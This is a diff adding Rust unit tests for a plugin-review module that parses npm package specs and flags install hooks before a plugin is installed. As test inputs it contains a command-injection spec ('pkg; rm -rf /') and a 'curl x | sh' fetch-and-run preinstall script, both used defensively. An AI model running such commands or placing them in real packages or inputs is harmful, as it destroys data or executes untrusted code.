@@ -0,0 +1,78 @@
+#[cfg(test)]
+mod tests {
+    use super::super::plugin_review::{is_registry_spec, review, unavailable};
+    use serde_json::json;
+
+    #[test]
+    fn test_is_registry_spec() {
+        assert!(is_registry_spec("@m1heng-clawd/feishu"));
+        assert!(is_registry_spec("mcp-weather@^1.2.0"));
+        assert!(is_registry_spec("@scope/pkg@latest"));
+        assert!(!is_registry_spec("https://github.com/user/repo"));
+        assert!(!is_registry_spec("github:user/repo"));
+        assert!(!is_registry_spec("user/repo"));
+        assert!(!is_registry_spec("./plugins/local"));
+        assert!(!is_registry_spec("plugin-1.0.0.tgz"));
+        assert!(!is_registry_spec("pkg; rm -rf /"));
+        assert!(!is_registry_spec("@scope"));
+    }
+
+    #[test]
+    fn test_review_lists_install_scripts() {
+        let manifest = json!({
+            "name": "mcp-weather",
+            "version": "1.2.0",
+            "repository": { "type": "git", "url": "git+https://github.com/x/mcp-weather.git" },
+            "bin": { "mcp-weather": "dist/cli.js" },
+            "dependencies": { "zod": "^3.0.0", "axios": "^1.6.0" },
+            "scripts": { "build": "tsc", "postinstall": "node setup.js" },
+            "openclaw": { "extensions": ["./dist/index.js"] }
+        });
+        let review = review("mcp-weather", &manifest);
+        assert!(review.metadata_available);
+        assert!(review.requires_confirmation);
+        assert_eq!(review.install_scripts.len(), 1);
+        assert_eq!(review.install_scripts[0].hook, "postinstall");
+        assert_eq!(review.install_scripts[0].command, "node setup.js");
+        assert_eq!(review.dependencies, vec!["axios@^1.6.0", "zod@^3.0.0"]);
+        assert_eq!(review.binaries, vec!["mcp-weather"]);
+        assert_eq!(
+            review.repository.as_deref(),
+            Some("git+https://github.com/x/mcp-weather.git")
+        );
+        assert!(review.openclaw.is_some());
+    }
+
+    #[test]
+    fn test_review_without_scripts_needs_no_confirmation() {
+        // npm view returns an array when a range matches several versions
+        let manifest = json!([
+            { "name": "feishu", "version": "0.1.0", "scripts": { "preinstall": "curl x | sh" } },
+            { "name": "feishu", "version": "0.2.0", "openclaw": {} }
+        ]);
+        let review = review("feishu@>=0.1", &manifest);
+        assert_eq!(review.version.as_deref(), Some("0.2.0"));
+        assert!(review.install_scripts.is_empty());
+        assert!(!review.requires_confirmation);
+        assert!(review.warnings.is_empty());
+    }
+
+    #[test]
+    fn test_review_flags_registry_install_script() {
+        // Native builds (binding.gyp) run at install without declaring a script
+        let manifest = json!({ "name": "native-plugin", "hasInstallScript": true, "openclaw": {} });
+        let review = review("native-plugin", &manifest);
+        assert!(review.install_scripts.is_empty());
+        assert!(review.requires_confirmation);
+        assert_eq!(review.warnings.len(), 1);
+    }
+
+    #[test]
+    fn test_unavailable_needs_confirmation() {
+        let review = unavailable("github:user/repo", "Only npm packages can be reviewed");
+        assert!(!review.metadata_available);
+        assert!(review.requires_confirmation);
+        assert_eq!(review.warnings.len(), 1);
+        assert!(review.warnings[0].starts_with("Only npm packages can be reviewed"));
+    }
+}